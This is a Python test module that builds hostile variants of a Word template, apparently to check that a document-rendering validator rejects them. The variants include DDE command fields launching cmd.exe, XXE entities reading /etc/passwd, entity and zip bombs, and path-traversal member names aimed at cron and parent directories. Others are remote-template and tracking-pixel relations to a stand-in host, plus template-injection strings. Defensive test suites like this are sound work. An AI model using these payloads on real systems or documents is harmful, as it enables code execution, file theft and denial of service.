"""Escapes and bombs in the package of a template, around a sound text."""

import struct
from collections.abc import Callable, Mapping
from hashlib import sha256
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from tests.rendering.packing import MIME, NAMES, OFFICE

DOCUMENT, RELATIONS, SETTINGS = "word/document.xml", "word/_rels/document.xml.rels", "word/settings.xml"
TYPES = "[Content_Types].xml"
ENTITIES = '<!DOCTYPE a [<!ENTITY a "ааааааааааааааааа">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)
)
Members = dict[str, bytes]
VBA = "application/vnd.ms-word.document.macroEnabled.main+xml"


def unpacked(source: bytes) -> Members:
    """The members of a package."""
    with ZipFile(BytesIO(source)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(members: Mapping[str, bytes]) -> bytes:
    """A package of members."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(ZipInfo(name), content, ZIP_DEFLATED)
    return out.getvalue()


def with_body(source: bytes, xml: str) -> bytes:
    """The template with markup in front of its text."""
    members = unpacked(source)
    members[DOCUMENT] = members[DOCUMENT].replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)
    return packed(members)


def with_relation(source: bytes, kind: str, target: str, *, external: bool = False, part: str = RELATIONS) -> bytes:
    """The template with one more relation; `kind`: the last word of its type."""
    members = unpacked(source)
    mode = ' TargetMode="External"' if external else ""
    row = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    members[part] = members.get(part, empty).replace(b"</Relationships>", row.encode())
    return packed(members)


def with_member(source: bytes, name: str, content: bytes) -> bytes:
    """The template with one more member, or another content of one."""
    return packed({**unpacked(source), name: content})


def replaced(source: bytes, name: str, old: str, new: str) -> bytes:
    """The template with other text in a member."""
    members = unpacked(source)
    assert old.encode() in members[name]
    members[name] = members[name].replace(old.encode(), new.encode(), 1)
    return packed(members)


def field(code: str) -> str:
    """A paragraph with a field of three signs."""
    sign = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    return f"<w:p>{sign('begin')}{code}{sign('separate')}<w:r><w:t>1</w:t></w:r>{sign('end')}</w:p>"


def instruction(text: str) -> str:
    """A piece of the code of a field."""
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _entities(source: bytes) -> bytes:
    members = unpacked(source)
    head, rest = members[DOCUMENT].split(b"?>", 1)
    members[DOCUMENT] = head + b"?>" + ENTITIES.encode() + b"]>" + rest.replace(b"<w:t", b"<w:t>&j;</w:t><w:t", 1)
    return packed(members)


def _utf16(source: bytes) -> bytes:
    members = unpacked(source)
    head = '<?xml version="1.0" encoding="UTF-16"?>' + ENTITIES + "]>"
    members[DOCUMENT] = (head + members[DOCUMENT].decode().split("?>", 1)[1]).encode("utf-16")
    return packed(members)


def _encoded(source: bytes) -> bytes:
    members = unpacked(source)
    text = members[DOCUMENT].decode().replace("UTF-8", "UTF-7", 1).replace("<w:t>", "<w:t>+AHsAew-", 1)
    members[DOCUMENT] = text.encode()
    return packed(members)


def _external_entity(source: bytes) -> bytes:
    members = unpacked(source)
    doctype = b'?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    members[DOCUMENT] = members[DOCUMENT].replace(b"?>", doctype, 1).replace(b"<w:t>", b"<w:t>&x;", 1)
    return packed(members)


def _false_size(source: bytes) -> bytes:
    """A member of twenty megabytes that says it has four bytes, in its header and in the list."""
    content = b"<a>" + bytes(20_000_000)
    whole = with_member(source, "word/theme/theme1.xml", content)
    return whole.replace(struct.pack("<L", len(content)), struct.pack("<L", 4))


def _many_members(source: bytes) -> bytes:
    return packed({**unpacked(source), **{f"word/media/p{i}.png": b"" for i in range(20_000)}})


def _twice(source: bytes) -> bytes:
    """Two members of one name: one is checked, the other opened."""
    out = BytesIO(source)
    with ZipFile(out, "a", ZIP_DEFLATED) as archive:
        archive.writestr(ZipInfo("WORD/document.xml"), b"<w:document/>")
    return out.getvalue()


def _paragraphs(count: int) -> str:
    """Paragraphs that do not pack well."""
    texts = (sha256(str(number).encode()).hexdigest() for number in range(count))
    return "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in texts)


def _macros(source: bytes) -> bytes:
    return replaced(source, TYPES, f"{MIME}.document.main+xml", VBA)


Attack = Callable[[bytes], bytes]
DEEP = "<w:tbl><w:tr><w:tc>"
PACKAGES: dict[str, Attack] = {
    "macros_by_type": _macros,
    "macros_by_member": lambda t: with_member(t, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    "macros_by_relation": lambda t: with_relation(with_member(t, "word/code.bin", b"x"), "vbaProject", "code.bin"),
    "external_picture": lambda t: with_relation(t, "image", "http://ensk.example/pixel.png", external=True),
    "external_picture_of_a_header": lambda t: with_relation(
        t, "image", "http://ensk.example/pixel.png", external=True, part="word/_rels/header_first.xml.rels"
    ),
    "network_path": lambda t: with_relation(t, "image", r"\\ensk.example\share\a.png", external=True),
    "remote_template": lambda t: with_relation(
        t, "attachedTemplate", "http://ensk.example/a.dotm", external=True, part="word/_rels/settings.xml.rels"
    ),
    "file_link": lambda t: with_relation(t, "hyperlink", "file:///etc/passwd", external=True),
    "script_link": lambda t: with_relation(t, "hyperlink", "javascript:alert(1)", external=True),
    "link_with_a_tag": lambda t: with_relation(t, "hyperlink", "http://ensk.example/?{{ control }}", external=True),
    "ole_object": lambda t: with_relation(
        with_member(t, "word/embeddings/a.bin", b"\xd0\xcf\x11\xe0"), "oleObject", "embeddings/a.bin"
    ),
    "ole_markup": lambda t: with_body(t, '<w:p><w:r><w:object w:dxaOrig="1"/></w:r></w:p>'),
    "embedded_book": lambda t: with_relation(
        with_member(t, "word/embeddings/a.xlsx", b"PK"), "package", "embeddings/a.xlsx"
    ),
    "active_x": lambda t: with_relation(with_member(t, "word/activeX/a.xml", b"<a/>"), "control", "activeX/a.xml"),
    "alt_chunk": lambda t: with_relation(
        with_body(with_member(t, "word/a.html", b"<script/>"), '<w:altChunk r:id="rIdX"/>'), "aFChunk", "a.html"
    ),
    "alt_chunk_markup": lambda t: with_body(t, '<w:altChunk r:id="rId1"/>'),
    "sub_document": lambda t: with_body(t, '<w:subDoc r:id="rId1"/>'),
    "mail_merge": lambda t: replaced(
        t, SETTINGS, "<w:defaultTabStop", '<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge><w:defaultTabStop'
    ),
    "web_extension": lambda t: with_relation(
        with_member(t, "word/webextensions/a.xml", b"<a/>"), "webextensiontaskpanes", "webextensions/a.xml"
    ),
    "dde": lambda t: with_body(t, field(instruction(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'))),
    "dde_in_pieces": lambda t: with_body(t, field(instruction("DD") + instruction("EAUTO cmd"))),
    "dde_by_quote": lambda t: with_body(t, field(instruction("QUOTE 68 68 69") + instruction(" cmd"))),
    "dde_by_nested_field": lambda t: with_body(
        t, field(field(instruction("QUOTE 68 68 69")).removeprefix("<w:p>").removesuffix("</w:p>") + instruction(" c"))
    ),
    "include_text": lambda t: with_body(t, '<w:p><w:fldSimple w:instr=" INCLUDETEXT /etc/passwd "/></w:p>'),
    "include_picture": lambda t: with_body(t, field(instruction("INCLUDEPICTURE http://ensk.example/a.png"))),
    "link_field": lambda t: with_body(t, field(instruction(r"LINK Excel.Sheet C:\\a.xlsx"))),
    "field_without_end": lambda t: with_body(t, field(instruction("INCLUDETEXT a")).replace('"end"', '"begin"')),
    "hyperlink_field_to_a_file": lambda t: with_body(t, field(instruction('HYPERLINK "file:///etc/passwd"'))),
    "field_made_by_a_tag": lambda t: with_body(t, field(instruction("{{ control }}"))),
    "entity_bomb": _entities,
    "entity_bomb_in_utf16": _utf16,
    "external_entity": _external_entity,
    "odd_encoding": _encoded,
    "zip_bomb": lambda t: with_member(t, "word/media/a.xml", b" " * 200_000_000),
    "zip_bomb_of_markup": lambda t: with_member(t, "word/numbering.xml", b"<a>" + b"<b/>" * 3_000_000 + b"</a>"),
    "zip_of_false_size": _false_size,
    "many_members": _many_members,
    "same_name_twice": _twice,
    "path_upwards": lambda t: with_member(t, "../../evil.py", b"x"),
    "path_with_backslashes": lambda t: with_member(t, "..\\..\\evil.py", b"x"),
    "absolute_path": lambda t: with_member(t, "/etc/cron.d/evil", b"x"),
    "relation_upwards": lambda t: with_relation(t, "image", "../../../../etc/passwd"),
    "hundred_thousand_paragraphs": lambda t: with_body(t, "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 100_000),
    "hundred_thousand_different_paragraphs": lambda t: with_body(t, _paragraphs(100_000)),
    "six_thousand_paragraphs": lambda t: with_body(t, _paragraphs(6_000)),
    "deep_tables": lambda t: with_body(t, DEEP * 200 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 200),
    "long_text": lambda t: with_body(t, f"<w:p><w:r><w:t>{'x{' * 1_500_000}</w:t></w:r></w:p>"),
    "no_package": lambda _t: b"MZ\x90\x00" * 100,
    "old_format": lambda _t: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "cut_short": lambda t: t[: len(t) // 2],
    "broken_markup": lambda t: replaced(t, DOCUMENT, "</w:body>", "</w:bdy>"),
    "nothing": lambda _t: b"",
    "tag_in_properties": lambda t: replaced(t, "docProps/core.xml", "<dc:title>", "<dc:title>{{ ''.__class__ }}"),
    "bomb_in_properties": lambda t: replaced(t, "docProps/core.xml", "<dc:title>", "<dc:title>{{ 9**9**9**9 }}"),
    "footnotes": lambda t: with_relation(
        with_member(
            t,
            "word/footnotes.xml",
            f"<w:footnotes {NAMES}><w:footnote><w:p><w:r><w:t>{{{{ ''.__class__ }}}}</w:t></w:r></w:p>"
            "</w:footnote></w:footnotes>".encode(),
        ),
        "footnotes",
        "footnotes.xml",
    ),
}
